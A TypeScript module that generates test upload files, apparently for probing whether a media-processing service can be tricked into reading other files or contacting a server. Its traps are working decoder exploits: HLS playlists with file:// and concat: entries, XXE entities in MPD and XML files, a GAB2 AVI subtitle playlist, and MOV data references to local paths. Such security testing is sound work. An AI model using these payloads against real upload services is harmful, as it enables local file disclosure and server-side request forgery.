// Files that look like a video by name or type, but make a decoder open another file or URL.

/** The targets of the traps. */
export interface Bait {
  /** Absolute path of a video that only traps refer to. */
  readonly path: string
  /** URL of a server that counts its requests. */
  readonly url: string
}

/** A file to upload, with a name that suggests its format to a decoder. */
export interface Trap {
  readonly name: string
  readonly bytes: Buffer
}

/**
 * Creates a file for every known way to make FFmpeg or an image library open another file or URL.
 *
 * @param video a valid MP4 that some of the traps are based on
 */
export function makeTraps ({ path, url }: Bait, video: Buffer): Trap[] {
  const text = (name: string, ...lines: string[]): Trap => ({ name, bytes: Buffer.from(lines.join('\n') + '\n') })
  const playlist = (name: string, ...entries: string[]): Trap =>
    text(
      name,
      '#EXTM3U',
      '#EXT-X-VERSION:3',
      '#EXT-X-TARGETDURATION:10',
      '#EXT-X-MEDIA-SEQUENCE:0',
      ...entries.flatMap((entry) => ['#EXTINF:10.0,', entry]),
      '#EXT-X-ENDLIST'
    )
  const hls = playlist('x.m3u8', `${url}/hls.ts`, path)
  return [
    hls,
    playlist('absolute.mp4', path),
    playlist('file-url.m3u8', `file://${path}`),
    playlist('concat.m3u8', `concat:${url}/concat|subfile,,start,0,end,64,,:${path}`),
    playlist('data.m3u8', `data:video/mp4;base64,${Buffer.from(hls.bytes).toString('base64')}`),
    text('key.m3u8', '#EXTM3U', `#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"`, '#EXTINF:10,', path, '#EXT-X-ENDLIST'),
    text(
      'map.m3u8',
      '#EXTM3U',
      '#EXT-X-VERSION:7',
      `#EXT-X-MAP:URI="file://${path}"`,
      '#EXTINF:10,',
      `${url}/part.m4s`,
      '#EXT-X-ENDLIST'
    ),
    text('master.m3u8', '#EXTM3U', '#EXT-X-STREAM-INF:BANDWIDTH=1', `${url}/variant.m3u8`),
    text(
      'x.mpd',
      '<?xml version="1.0"?>',
      `<!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${path}">]>`,
      '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S" ' +
        'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">',
      `<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${url}/dash.mp4</BaseURL><SegmentBase indexRange="0-100"/></Representation>`,
      `<Representation id="2" bandwidth="2"><BaseURL>file://${path}</BaseURL></Representation></AdaptationSet></Period></MPD>`
    ),
    text('x.ffconcat', 'ffconcat version 1.0', `file '${path}'`, `file '${url}/concat.mp4'`),
    text('lazy.ffconcat', `file '${path}'`),
    text(
      'x.sdp',
      'v=0',
      'o=- 0 0 IN IP4 127.0.0.1',
      's=x',
      'c=IN IP4 127.0.0.1',
      't=0 0',
      'm=video 18766 RTP/AVP 96',
      'a=rtpmap:96 H264/90000'
    ),
    text(
      'x.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="640" height="360"><image xlink:href="file://${path}" width="640" height="360"/><image href="${url}/image.png" width="9" height="9"/></svg>`
    ),
    text(
      'CPL_x.xml',
      '<?xml version="1.0"?>',
      `<!DOCTYPE x [<!ENTITY y SYSTEM "${url}/entity">]>`,
      '<CompositionPlaylist ' +
        'xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id><ContentTitle>&y;</ContentTitle><EditRate>25 1</EditRate></CompositionPlaylist>'
    ),
    text(
      'x.ass',
      '[Script Info]',
      'ScriptType: v4.00+',
      '[Fonts]',
      `fontname: ${path}`,
      '[Events]',
      'Dialogue: 0,0:00:00.00,0:00:05.00,Default,,0,0,0,,x'
    ),
    text('x.rtsp', `rtsp${url.slice(4)}/stream`),
    text('x.asx', `<asx version="3.0"><entry><ref href="${url}/asx"/></entry></asx>`),
    text('x.pls', '[playlist]', `File1=${url}/pls`, 'NumberOfEntries=1'),
    text('x.avs', `DirectShowSource("${path}")`),
    text('x.vpy', `open('${path}').read()`),
    text('x.lavfi', `movie=${path}`),
    text('x.ffmeta', ';FFMETADATA1', `title=${path}`),
    text('x.txt', path),
    { name: 'frame%d.png', bytes: Buffer.from(path) },
    { name: 'playlist-first.mp4', bytes: Buffer.concat([hls.bytes, video]) },
    { name: 'playlist-last.mp4', bytes: Buffer.concat([video, hls.bytes]) },
    { name: 'playlist-in-free.mp4', bytes: Buffer.concat([video, box('free', hls.bytes)]) },
    { name: 'playlist-in-subtitle.avi', bytes: gab2(hls.bytes) },
    ...['url ', 'urn ', 'alis'].map((kind) => ({
      name: `reference-${kind.trim()}.mov`,
      bytes: referTo(video, kind, kind === 'url ' ? `file://${path}` : path)
    }))
  ]
}

function box (type: string, payload: Buffer): Buffer {
  const header = Buffer.alloc(8)
  header.writeUInt32BE(8 + payload.length)
  header.write(type, 4, 'latin1')
  return Buffer.concat([header, payload])
}

/**
 * Changes the data reference of the first track to another file (ISO/IEC 14496-12, 8.7.2), and updates the sizes of the
 * boxes around it.
 */
function referTo (video: Buffer, kind: string, target: string): Buffer {
  const at = video.indexOf('dref')
  const entry = box(kind, Buffer.concat([Buffer.alloc(4), Buffer.from(`${target}\0`)]))
  const reference = box('dref', Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), entry]))
  const start = at - 4
  const end = start + video.readUInt32BE(start)
  const grown = reference.length - (end - start)
  const out = Buffer.concat([video.subarray(0, start), reference, video.subarray(end)])
  for (const type of ['moov', 'trak', 'mdia', 'minf', 'dinf']) {
    const place = out.indexOf(type, 0, 'latin1') - 4
    out.writeUInt32BE(out.readUInt32BE(place) + grown, place)
  }
  return out
}

/** Creates an AVI file with a playlist as its subtitle, an attack published in 2017. */
function gab2 (playlist: Buffer): Buffer {
  const chunk = (id: string, payload: Buffer) => {
    const size = Buffer.alloc(4)
    size.writeUInt32LE(payload.length)
    return Buffer.concat([Buffer.from(id, 'latin1'), size, payload, Buffer.alloc(payload.length % 2)])
  }
  const header = Buffer.alloc(56)
  header.writeUInt32LE(40_000, 0)
  header.writeUInt32LE(1, 24)
  header.writeUInt32LE(320, 32)
  header.writeUInt32LE(240, 36)
  const stream = Buffer.alloc(56)
  stream.write('txts', 0, 'latin1')
  stream.writeUInt32LE(1, 20)
  stream.writeUInt32LE(25, 24)
  const list = (type: string, ...chunks: Buffer[]) =>
    chunk('LIST', Buffer.concat([Buffer.from(type, 'latin1'), ...chunks]))
  const subtitle = Buffer.concat([
    Buffer.from('GAB2\0\u0002\0\0\0\0\0\0\0\u0004\0', 'latin1'),
    size32(playlist.length),
    playlist
  ])
  const body = Buffer.concat([
    Buffer.from('AVI ', 'latin1'),
    list('hdrl', chunk('avih', header), list('strl', chunk('strh', stream), chunk('strf', Buffer.alloc(0)))),
    list('movi', chunk('00tx', subtitle))
  ])
  return chunk('RIFF', body)
}

function size32 (bytes: number): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(bytes)
  return size
}
